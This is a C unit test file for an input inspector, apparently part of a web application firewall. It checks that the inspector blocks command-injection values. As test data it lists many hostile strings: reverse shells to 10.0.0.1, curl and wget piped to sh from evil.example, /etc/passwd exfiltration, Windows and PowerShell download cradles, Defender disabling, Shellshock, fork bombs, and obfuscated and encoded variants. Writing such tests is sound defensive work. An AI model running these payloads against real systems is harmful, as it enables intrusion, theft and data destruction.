// SPDX-License-Identifier: BSD-3-Clause
//
// Command lines that break out of one, or are one.

#define JUDGED INSPECT_COMMAND
#include "tests/unit/dataplane/inspect/judge_value.h"

static void separators_that_begin_a_command_are_refused(void **state)
{
	static const char *const values[] = {
		"; cat /etc/passwd",
		"| cat /etc/passwd",
		"|| cat /etc/shadow",
		"& cat /etc/passwd &",
		"&& cat /etc/group",
		"\ncat /etc/passwd",
		"x;cat /etc/passwd",
		"127.0.0.1;cat /etc/passwd",
		"10.0.0.1 | id",
		"127.0.0.1;id",
		"8.8.8.8 && whoami",
		";id",
		"|id",
		";id;",
		"|id|",
		"||id||",
		"\nid\n",
		";whoami",
		"x|whoami",
		"1;uname -a",
		"1 & ls -la",
		";ls",
		";ls -l /tmp",
		"a.txt;netstat -an",
		"; ifconfig",
		"x;ps aux",
		";w;id",
		"5;hostname -f",
		";sleep 5",
		"& ping -c 10 127.0.0.1 &",
		"| ping -n 10 127.0.0.1",
		"x;sleep 10;",
		";wget http://evil.example/x.sh",
		"|curl http://evil.example/x|sh",
		";nc -e /bin/sh 10.0.0.1 4444",
		"&& nslookup x.evil.example",
		"; dig x.evil.example",
		";curl -d @/etc/passwd evil.example",
		";bash -c 'id'",
		";python -c 'import os'",
		"|perl -e 'print 1'",
		";php -r 'phpinfo();'",
		";rm -rf /var/www",
		";touch /tmp/x",
		";chmod 777 /etc/passwd",
		";echo x > /var/www/x.php",
		";echo $((41+1))",
		"|echo A$((2+3))$(echo B)C",
		";printf '%s' $(id)",
		";kill -9 1",
		";/usr/bin/id",
		"a);/usr/bin/id",
		"|/bin/ls -al",
		"; /bin/cat /etc/passwd #",
		";bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
		"; exec 5<>/dev/tcp/10.0.0.1/80",
		";tail -n 5 /var/log/syslog",
		";head /etc/issue",
		";grep root /etc/passwd",
		"; if [ 1 -eq 1 ]; then sleep 5; fi",
		"; crontab -l",
		"; sudo -l",
		";find / -perm -4000",
		";tar cf - /etc | nc 10.0.0.1 99",
		";mysql -u root -e 'select 1'",
		";openssl s_client -connect a.example:443",
	};

	(void)state;
	REFUSES(values);
}

static void quotes_of_the_command_line_do_not_hold(void **state)
{
	static const char *const values[] = {
		"';cat /etc/passwd;'",
		"\";cat /etc/passwd;\"",
		"'; id #",
		"\" | id \"",
		"x' && whoami && 'x",
		"\"; ping -c 3 127.0.0.1; \"",
		"' || sleep 5 || '",
		"\"`id`\"",
		"'\nid\n'",
		"foo\";ls -la;echo \"bar",
	};

	(void)state;
	REFUSES(values);
}

static void substitutions_are_refused(void **state)
{
	static const char *const values[] = {
		"$(id)",
		"`id`",
		"`whoami`",
		"$(whoami)",
		"x$(cat /etc/passwd)",
		"a`cat /etc/passwd`b",
		"$(ping -c 3 127.0.0.1)",
		"`sleep 5`",
		"$(sleep 5)",
		"$(curl http://evil.example/)",
		"`wget http://evil.example/x`",
		"$(echo $((3*7)))",
		"<(id -a)",
		"$(/usr/bin/id)",
		"user@`whoami`.example.com",
		"$(nslookup `whoami`.evil.example)",
	};

	(void)state;
	REFUSES(values);
}

static void names_in_pieces_are_refused(void **state)
{
	static const char *const values[] = {
		";c'a't /etc/passwd",
		";c\"a\"t /etc/passwd",
		";c\\at /etc/passwd",
		";ca''t /etc/passwd",
		";c$@at /etc/passwd",
		";ca``t /etc/passwd",
		";wh$()oami",
		";w'h'o'a'm'i",
		";who\\ami",
		";cat$IFS/etc/passwd",
		";cat${IFS}/etc/passwd",
		";cat$IFS$9/etc/passwd",
		";{cat,/etc/passwd}",
		";/bin/c?t /etc/passwd",
		";/??\?/c?t /??\?/p??s??",
		";cat /e?\?/pa???d",
		";cat /e*c/p*d",
		";cat /[e]tc/pass[w]d",
		";$'\\x63\\x61\\x74' /etc/passwd",
		";cat $'\\x2fetc\\x2fpasswd'",
		";cat<>/etc/passwd",
		";cat</etc/passwd",
		"{cat,/etc/passwd}",
		";a=cat;$a /etc/passwd",
		"&w^h^o^a^m^i",
		"&n^e^t user",
		";echo aWQ=|base64 -d|sh",
		";printf 'id'|sh",
		";rev<<<'di'|sh",
		";xxd -r -p <<<6964|sh",
		";$SHELL -c id",
		";${SHELL} -c id",
		";sh<<<id",
		"/??\?/??n/?d -x",
		";'c''a''t' /etc/passwd",
		";cat\t/etc/passwd",
		";cat\\\n /etc/passwd",
	};

	(void)state;
	REFUSES(values);
}

static void whole_command_lines_are_refused(void **state)
{
	static const char *const values[] = {
		"cat /etc/passwd",
		"cat /etc/shadow | head -1",
		"bash -c 'id'",
		"sh -i >& /dev/tcp/10.0.0.1/9 0>&1",
		"/bin/bash -c \"id\"",
		"nc -lvp 4444 -e /bin/sh",
		"python -c 'import socket'",
		"rm -rf /var/www/html",
		"wget http://evil.example/x -O /tmp/x",
		"curl http://evil.example/x | sh",
		"dir C:\\Users",
		"type C:\\boot.ini",
		"ls -l /etc",
		"tail /var/log/auth.log",
	};
	static const char *const asked[] = {"whoami",        "ls -la",   "ifconfig",
					    "ipconfig /all", "uname -a", "netstat -an"};

	(void)state;
	REFUSES(values);
	refuses_all_at(PLACE_QUERY, "cmd", asked, COUNT(asked));
	refuses_all_at(PLACE_JSON, "exec", asked, COUNT(asked));
}

static void windows_is_refused(void **state)
{
	static const char *const values[] = {
		"& dir C:\\",
		"| type C:\\windows\\win.ini",
		"&ipconfig /all",
		"& whoami /priv",
		"& net user",
		"& systeminfo",
		"&& tasklist /v",
		"| ver",
		"& WHOAMI",
		"& C:\\Windows\\System32\\cmd.exe /c dir",
		"& certutil -urlcache -f http://evil.example/x.exe x.exe",
		"& bitsadmin /transfer x http://evil.example/x c:\\x",
		"& mshta http://evil.example/x.hta",
		"& rundll32 javascript:\"\\..\\mshtml\" x",
		"& regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
		"& wmic process call create calc.exe",
		"& powershell -enc aQBkAA==",
		"powershell -nop -w hidden -c \"IEX x\"",
		"& cmd /c dir",
		"& ping -n 5 127.0.0.1",
		"& timeout /t 5",
		"& echo x > c:\\x.txt",
		"& del c:\\x.txt /q",
		"& reg query HKLM\\Software",
		"& schtasks /create /tn x /tr y",
		"for /f \"tokens=*\" %i in ('whoami') do echo %i",
		"FOR %A IN (1 2 3) DO ECHO %A",
		"& for /l %x in (1,1,9) do ping x",
		"if exist C:\\x.txt del C:\\x.txt",
		"IF NOT DEFINED X goto end",
		"if \"%a%\"==\"b\" echo yes",
		"& %COMSPEC% /c dir",
	};

	(void)state;
	REFUSES(values);
}

static void powershell_is_refused(void **state)
{
	static const char *const values[] = {
		"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
		"iex(iwr http://evil.example/x)",
		"|iex $x",
		";iwr -uri http://evil.example/x",
		"Invoke-WebRequest http://evil.example/x",
		"Invoke-Expression -Command $x",
		"I`nvoke-Exp`ression $x",
		"Start-Process -FilePath calc.exe",
		"& ('i'+'ex') $x",
		"&(\"{1}{0}\" -f 'x','ie') $y",
		"New-Object System.Net.WebClient",
		"[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x));iex $y",
		"Set-MpPreference -DisableRealtimeMonitoring $true",
		"Invoke-Command -ScriptBlock {dir}",
	};

	(void)state;
	REFUSES(values);
}

static void other_forms_are_refused(void **state)
{
	static const char *const values[] = {
		"() { :; }; /bin/bash -c id",
		"() { :;};echo x",
		"() { _; } >_[$($())] { id; }",
		"() {",
		":(){ :|:& };:",
		"f(){ f|f& };f",
		"<!--#exec cmd=\"id\" -->",
		"<!--#include virtual=\"/x\"-->",
		"<!--#echo var=\"DATE_LOCAL\" -->",
	};

	(void)state;
	REFUSES(values);
	refuses_all_at(PLACE_USER_AGENT, "user-agent", values, 3);
}

static void encodings_do_not_hide(void **state)
{
	static const char *const values[] = {
		"%3Bcat%20/etc/passwd",
		"%253Bcat%2520/etc/passwd",
		";cat+/etc/passwd",
		"%3bid%3b",
		"O2NhdCAvZXRjL3Bhc3N3ZA==",
		"\\u003bcat\\u0020/etc/passwd",
		"&#59;cat /etc/passwd",
		"%26%26whoami",
		"%0Aid%0A",
		"%60id%60",
		"\\x3bcat\\x20/etc/passwd",
	};

	(void)state;
	REFUSES(values);
}

static void every_place_is_looked_at(void **state)
{
	static const enum inspect_place places[] = {
		PLACE_PATH,       PLACE_QUERY,     PLACE_COOKIE, PLACE_HEADER,
		PLACE_USER_AGENT, PLACE_REFERER,   PLACE_FORM,   PLACE_JSON,
		PLACE_XML_TEXT,   PLACE_FILE_NAME, PLACE_BODY,   PLACE_QUERY_NAME};
	static const char *const values[] = {"x;cat /etc/passwd", "x|whoami", "`cat /etc/passwd`"};

	(void)state;
	for (size_t i = 0; i < COUNT(places); i++)
		refuses_all_at(places[i], "p", values, COUNT(values));
}

static void much_before_it_does_not_hide_a_command(void **state)
{
	static const char *const patterns[] = {";cat \"x",    ";id 'a", "a ", ";",
					       "$(",          "`",      "'",  "\n",
					       "; more text", "&a=b",   "|x|"};
	static const char attack[] = ";cat /etc/passwd;";
	static char text[32768];

	(void)state;
	for (size_t i = 0; i < COUNT(patterns); i++) {
		size_t len = strlen(patterns[i]), from = sizeof(text) - sizeof(attack);

		for (size_t k = 0; k < from; k++)
			text[k] = patterns[i][k % len];
		memcpy(text + from, attack, sizeof(attack));
		if (judge(text) < BLOCKED)
			print_message("%s\n", patterns[i]);
		assert_true(judge(text) >= BLOCKED);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST_VALUES(separators_that_begin_a_command_are_refused),
		TEST_VALUES(quotes_of_the_command_line_do_not_hold),
		TEST_VALUES(substitutions_are_refused),
		TEST_VALUES(names_in_pieces_are_refused),
		TEST_VALUES(whole_command_lines_are_refused),
		TEST_VALUES(windows_is_refused),
		TEST_VALUES(powershell_is_refused),
		TEST_VALUES(other_forms_are_refused),
		TEST_VALUES(encodings_do_not_hide),
		TEST_VALUES(every_place_is_looked_at),
		TEST_VALUES(much_before_it_does_not_hide_a_command),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
